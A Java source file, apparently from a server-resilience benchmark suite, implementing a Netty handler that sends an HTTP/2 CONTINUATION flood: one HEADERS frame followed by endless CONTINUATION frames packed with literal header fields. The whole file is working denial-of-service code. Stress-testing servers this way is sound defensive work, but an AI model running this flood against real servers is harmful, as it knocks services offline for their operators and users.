package dev.backsource.benchmarks.edge.hostile;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.ChannelHandlerContext;
import io.netty.handler.codec.http2.Http2FrameTypes;
import java.util.Arrays;

/** One header section in frame after frame, never ended (CONTINUATION flood). */
@SuppressWarnings("FutureReturnValueIgnored") // A connection that breaks is closed, and nothing is owed on it.
final class EndlessHeaders extends Http2AttackHandler {
    private static final int WINDOW = 65_535;
    private static final int FRAME = 16_000;
    /** A literal field without indexing, with names and values of its own (RFC 7541 §6.2.2). */
    private static final byte[] FIELD = new byte[100];

    static {
        Arrays.fill(FIELD, (byte) 'a');
        FIELD[0] = 0;
        FIELD[1] = 10;
        FIELD[12] = 87;
    }

    private int stream;

    EndlessHeaders(AttackCounts counts) {
        super(counts, WINDOW);
    }

    @Override
    void opened(ChannelHandlerContext context) {
        stream = nextStream();
        counts().asked(1);
        context.write(frame(Http2FrameTypes.HEADERS));
    }

    @Override
    public void goOn(ChannelHandlerContext context) {
        context.writeAndFlush(frame(Http2FrameTypes.CONTINUATION));
    }

    private ByteBuf frame(byte type) {
        var frame = Unpooled.buffer(FRAME + 9);
        frame.writeMedium(FRAME).writeByte(type).writeByte(0).writeInt(stream);
        for (var i = 0; i < FRAME / FIELD.length; i++) {
            frame.writeBytes(FIELD);
        }
        return frame;
    }
}
